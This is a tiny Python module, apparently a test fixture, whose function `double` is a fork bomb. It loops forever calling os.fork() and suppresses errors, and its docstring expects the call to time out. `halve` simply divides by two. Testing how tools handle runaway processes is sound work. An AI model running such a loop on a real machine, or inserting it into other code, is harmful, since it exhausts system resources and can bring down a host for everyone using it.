"""Starts processes that start processes.

double: timeout
"""

import contextlib
import os


def double(x):
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def halve(x):
    return x / 2
